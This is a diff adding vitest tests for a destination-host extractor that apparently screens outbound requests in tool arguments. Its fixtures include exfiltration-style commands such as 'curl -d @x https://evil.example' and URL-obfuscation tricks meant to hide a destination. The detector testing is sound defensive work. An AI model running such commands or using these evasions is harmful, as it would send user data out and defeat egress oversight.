@@ -4,7 +4,7 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { ConfigFault } from '../../../../src/base/config/fault.js';
 import { UNREADABLE_HOST as HIDDEN } from '../../../../src/engines/step-up/destination-host.js';
-import { destinationOf, destinationsOf, isAllowedHost, judgeDestinations, normalPattern, parseDestinations } from '../../../../src/engines/step-up/destinations.js';
+import { destinationOf, destinationsAnywhere, destinationsOf, isAllowedHost, judgeDestinations, normalPattern, parseDestinations } from '../../../../src/engines/step-up/destinations.js';
 
 describe('destinationsOf', () => {
   it.each<[unknown, readonly string[]]>([
@@ -111,6 +111,66 @@ describe('destinationsOf', () => {
       else expect(seen).toEqual([HIDDEN]);
     }), { numRuns: 3000 });
   });
+});
+
+describe('destinationsAnywhere', () => {
+  const nested = (value: unknown, levels: number): string => (levels === 0 ? JSON.stringify(value) : JSON.stringify(nested(value, levels - 1)));
+
+  it.each<[unknown, readonly string[]]>([
+    [{ text: 'hi https://evil.example/x?d=stolen' }, ['evil.example']],
+    [{ text: 'go to https://evil.example' }, ['evil.example']],
+    [{ text: 'https://evil.example is good.' }, ['evil.example']],
+    [{ text: 'Look (https://evil.example), then at "http://other.example:8080".' }, ['evil.example', 'other.example']],
+    [{ text: '[here](HTTPS://EVIL.example) <ws://b.example>' }, ['evil.example', 'b.example']],
+    [{ cmd: 'curl -d @x https://evil.example' }, ['evil.example']],
+    [{ cmd: 'curl https:\\evil.example && wget https:evil2.example' }, ['evil.example', 'evil2.example']],
+    [{ cmd: 'git clone git+ssh://evil.example/x' }, ['evil.example']],
+    [{ cmd: 'psql postgres://u:p@evil.example/x' }, [HIDDEN]],
+    [{ text: 'via http://localhost/?next=https://evil.example/' }, ['localhost', 'evil.example']],
+    [{ text: 'see http://localhost@evil.example/' }, [HIDDEN]],
+    [{ text: 'see http://localhost\\@evil.example/' }, [HIDDEN]],
+    [{ text: "see http://localhost'@evil.example/" }, [HIDDEN]],
+    [{ text: 'see http://localhost,.evil.example/x' }, ['localhost,.evil.example']],
+    [{ text: 'see https://2130706433 and http://[::1]:8080, http://[::1].' }, ['127.0.0.1', '[::1]']],
+    [{ text: 'write to mailto:bob@evil.example, please' }, ['evil.example']],
+    [{ 'https://evil.example/x': 1 }, ['evil.example']],
+    [{ deep: [{ 'see https://evil.example': [] }] }, ['evil.example']],
+    [{ body: '{"url":"https:\\/\\/evil.example\\/"}' }, ['evil.example']],
+    [{ body: '{"url":"\\u0068ttps://evil.example"}' }, ['evil.example']],
+    [{ body: ' {"to":"bob@evil.example"} ' }, ['evil.example']],
+    [{ headers: [['Host', 'evil.example']] }, []],
+    [{ text: 'evil.example, bob@evil.example and //evil.example' }, []],
+    [{ text: 'Note: http:// is a prefix, mailto: another; at 10:30, a::b, x:y, C:\\\\Temp, {"k":"v"}' }, []],
+    [{ text: 'file:///etc/hosts sqlite:///x.db data:text/plain,x' }, []],
+  ])('finds in %j: %j', (value, hosts) => {
+    expect(destinationsAnywhere(JSON.stringify(value))).toEqual(hosts);
+  });
+
+  it('reads JSON within JSON as deep as anybody means it, and takes what is deeper, or longer than a host, for hidden', () => {
+    const found = (value: unknown): string[] => destinationsAnywhere(JSON.stringify(value));
+    expect(found({ body: nested({ host: 'evil.example' }, 3) })).toEqual(['evil.example']);
+    expect([found({ body: nested({ note: 'nothing here' }, 7) }), found({ body: nested({ note: 'nothing here' }, 8) })]).toEqual([[], [HIDDEN]]);
+    expect(found({ body: `["${'['.repeat(50_000)}"]` })).toEqual([]);
+    expect(found({ body: `["x",${'['.repeat(50_000)}${']'.repeat(50_000)}]` })).toEqual([HIDDEN]);
+    expect(found({ text: `see http://${'a'.repeat(3000)}` })).toEqual([HIDDEN]);
+  });
+
+  it('finds no less than destinationsOf, in whatever text', () => {
+    const piece = fc.constantFrom('https:', 'mailto:', '//', '/', '\\', '@', ':', '.', 'evil.example', ' ', '"', '{', '}', '[', ']', 'x', '\n');
+    fc.assert(fc.property(fc.array(piece, { maxLength: 9 }), fc.constantFrom('url', 'to', 'text'), (pieces, name) => {
+      const json = JSON.stringify({ [name]: pieces.join('') });
+      const found = destinationsAnywhere(json);
+      expect(destinationsOf(json).every((host) => found.includes(host))).toBe(true);
+    }), { numRuns: 2000 });
+  });
+
+  it('takes time that grows with the text alone', () => {
+    const shapes = ['https:', 'a://', '://', 'http:x\\', 'http://,,,,,,', 'p:', '\\@', 'mailto:', `${'a'.repeat(300)}://`, '{"', '["'];
+    for (const shape of shapes) {
+      const json = JSON.stringify({ text: shape.repeat(Math.ceil(1_000_000 / shape.length)) });
+      expect(Array.isArray(destinationsAnywhere(json))).toBe(true);
+    }
+  }, 20_000);
 });
 
 describe('isAllowedHost', () => {
